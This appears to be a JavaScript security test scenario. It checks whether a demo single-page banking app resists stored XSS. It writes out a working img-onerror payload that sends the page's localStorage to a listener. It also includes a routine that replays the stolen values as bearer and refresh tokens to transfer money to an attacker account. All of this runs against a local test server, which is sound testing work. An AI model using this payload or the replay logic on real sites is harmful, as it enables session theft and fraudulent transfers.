// A script that somebody has put into the page reads the page's storage, in a real
// Chromium, and sends what is there to its master.
import { once } from "node:events";
import { createServer } from "node:http";

import { Browser } from "./browser.mjs";
import { launch } from "./chromium.mjs";
import { PASSWORD } from "./doors.mjs";

export const scenario = {
  name: "A script in the page reads the local storage",
  example: "jwt-spa",
  async run(door) {
    const received = createServer();
    received.listen(0, "127.0.0.1");
    await once(received, "listening");
    const chromium = await launch();
    try {
      const master = `http://127.0.0.1:${received.address().port}/`;
      const mallory = await logIn(door, "mallory");
      const note = `<img src="data:," onerror="new Image().src='${master}?'+encodeURIComponent(JSON.stringify(localStorage))">`;
      await mallory.call("POST", "/api/transfer", { to: "alice", amount: 1, note });
      const sent = once(received, "request", { signal: AbortSignal.timeout(30_000) });
      const page = await chromium.newPage();
      await page.goto(door.url);
      await page.fill("#login [name=username]", "alice");
      await page.fill("#login [name=password]", PASSWORD);
      await page.click("#login button");
      const [{ url }, response] = await sent;
      response.end();
      await page.waitForFunction(() => document.getElementById("who").textContent === "alice");
      // Alice stays logged in, and mallory, elsewhere, tries all that has come.
      const stored = JSON.parse(decodeURIComponent(url.split("?")[1]));
      const before = await balanceOf(door);
      await tryAll(door, stored);
      const moved = before - (await balanceOf(door));
      await page.reload();
      await page.waitForFunction(() => document.getElementById("who").textContent === "alice");
      return {
        holds: moved === 0,
        saw: `the script sends away ${Object.keys(stored).length} values, with which the thief moves ${moved === 0 ? "no money" : `¥${moved}`}`,
      };
    } finally {
      await chromium.close();
      received.closeAllConnections();
      received.close();
    }
  },
};

// What a page of the application does, with the storage of one.
export class Page extends Browser {
  tokens = {};

  copy() {
    const copy = new Page(this.door, new Map(this.cookies));
    copy.tokens = this.tokens;
    return copy;
  }

  async call(method, where, body) {
    const { access_token: token } = this.tokens;
    const answer = await this.send(method, where, {
      headers: { accept: "application/json", "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: body && JSON.stringify(body),
    });
    return { ...answer, json: answer.text === "" ? undefined : JSON.parse(answer.text) };
  }

  async refresh() {
    const answer = await this.call("POST", "/api/refresh", { refresh_token: this.tokens.refresh_token });
    if (answer.status === 200) this.tokens = answer.json;
    return answer.status;
  }
}

export async function logIn(door, username) {
  const page = new Page(door);
  const { status, json, text } = await page.call("POST", "/api/login", { username, password: PASSWORD });
  if (status !== 200) throw new Error(`log-in of ${username}: ${status} ${text}`);
  page.tokens = json;
  return page;
}

const balanceOf = async (door) => (await (await logIn(door, "alice")).call("GET", "/api/me")).json.balance;

async function tryAll(door, stored) {
  const order = { to: "mallory", amount: 1000 };
  for (const value of Object.values(stored)) {
    const thief = new Page(door);
    thief.tokens = { access_token: value, refresh_token: value };
    await thief.call("POST", "/api/transfer", order);
    if ((await thief.refresh()) === 200) await thief.call("POST", "/api/transfer", order);
  }
}
